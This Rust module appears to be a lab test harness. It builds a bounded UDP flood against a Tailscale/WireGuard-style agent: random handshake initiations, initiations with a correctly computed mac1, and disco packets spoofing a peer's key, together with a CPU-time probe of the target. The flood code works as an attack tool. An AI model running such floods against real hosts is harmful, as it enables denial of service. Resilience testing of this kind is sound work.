//! A data-center attacker's flood on the agent's UDP port: handshake initiations (random,
//! and with a valid `mac1` for someone who knows the firewall's public key) and disco-shaped
//! packets that claim a real peer's disco key. Bounded in rate and time, and aimed at one
//! address of a lab host only.

use anyhow::{Result, bail};
use blake2::digest::{FixedOutput, Mac};
use blake2::{Blake2s256, Blake2sMac, Digest};
use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

/// tailscale's disco magic, `"TS💬"`.
const DISCO_MAGIC: &[u8; 6] = b"TS\xf0\x9f\x92\xac";

/// The largest flood this module sends.
pub const MAX_RATE: u32 = 100_000;
pub const MAX_DURATION: Duration = Duration::from_secs(60);

/// What the attacker knows: the firewall's node key, and a peer's disco key.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    pub addr: SocketAddr,
    pub node_key: [u8; 32],
    pub peer_disco_key: [u8; 32],
}

/// A cheap, non-cryptographic byte stream: the junk need not be unpredictable, only varied.
pub struct Junk(u64);

impl Junk {
    pub fn new(seed: u64) -> Junk {
        Junk(seed | 1)
    }

    pub fn fill(&mut self, b: &mut [u8]) {
        for x in b {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            *x = self.0 as u8;
        }
    }
}

/// A handshake initiation (type 1, 148 bytes) of random content; with `mac1_for`, under
/// a correct `mac1` for that public key, as only someone who knows it can make.
pub fn initiation(j: &mut Junk, mac1_for: Option<&[u8; 32]>) -> Vec<u8> {
    let mut p = vec![0u8; 148];
    j.fill(&mut p[4..]);
    p[..4].copy_from_slice(&[1, 0, 0, 0]);
    if let Some(key) = mac1_for {
        let k = Blake2s256::new()
            .chain_update(b"mac1----")
            .chain_update(key)
            .finalize();
        let mut mac =
            Blake2sMac::<blake2::digest::consts::U16>::new_from_slice(&k).expect("32-byte key");
        mac.update(&p[..116]);
        p[116..132].copy_from_slice(&mac.finalize_fixed());
    }
    p
}

/// A disco-shaped packet from `sender`'s disco key: random nonce, random sealed box.
pub fn disco(j: &mut Junk, sender: &[u8; 32]) -> Vec<u8> {
    let mut p = Vec::with_capacity(6 + 32 + 24 + 48);
    p.extend_from_slice(DISCO_MAGIC);
    p.extend_from_slice(sender);
    let mut rest = [0u8; 24 + 48];
    j.fill(&mut rest);
    p.extend_from_slice(&rest);
    p
}

/// What a flood sent.
#[derive(Debug, Clone, Copy)]
pub struct Sent {
    pub packets: u64,
    pub elapsed: Duration,
}

/// Sends `rate` packets a second for `duration` from the calling thread's namespace: a
/// third random initiations, a third initiations with a valid `mac1`, a third disco junk.
pub fn flood(target: Target, rate: u32, duration: Duration) -> Result<Sent> {
    if rate > MAX_RATE || duration > MAX_DURATION {
        bail!("a flood is bounded to {MAX_RATE} packets/s for {MAX_DURATION:?}");
    }
    let sock = UdpSocket::bind(("0.0.0.0", 0))?;
    let mut j = Junk::new(0x9e37_79b9_7f4a_7c15);
    // Pre-made packets: the sender's cost is the system call, not the junk.
    let packets: Vec<Vec<u8>> = (0..3000)
        .map(|i| match i % 3 {
            0 => initiation(&mut j, None),
            1 => initiation(&mut j, Some(&target.node_key)),
            _ => disco(&mut j, &target.peer_disco_key),
        })
        .collect();
    let slot = Duration::from_millis(10);
    let per_slot = (rate / 100).max(1) as usize;
    let (start, mut sent) = (Instant::now(), 0u64);
    let mut next = start;
    while start.elapsed() < duration {
        for _ in 0..per_slot {
            let p = &packets[sent as usize % packets.len()];
            // A full socket buffer drops the packet: the attacker does not care.
            let _ = sock.send_to(p, target.addr);
            sent += 1;
        }
        next += slot;
        if let Some(wait) = next.checked_duration_since(Instant::now()) {
            std::thread::sleep(wait);
        }
    }
    Ok(Sent {
        packets: sent,
        elapsed: start.elapsed(),
    })
}

/// CPU time (user + system) a process has used so far.
pub fn cpu_time(pid: i32) -> Result<Duration> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat"))?;
    // The fields after the command name, which is in parentheses and may hold spaces.
    let rest = stat
        .rsplit_once(')')
        .map(|(_, r)| r)
        .unwrap_or_default()
        .split_whitespace()
        .collect::<Vec<_>>();
    let ticks = |i: usize| rest.get(i).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
    // utime and stime are fields 14 and 15 of stat; `rest` starts at field 3.
    let total = ticks(11) + ticks(12);
    let hz = nix::unistd::sysconf(nix::unistd::SysconfVar::CLK_TCK)?.unwrap_or(100) as u64;
    Ok(Duration::from_millis(total * 1000 / hz))
}
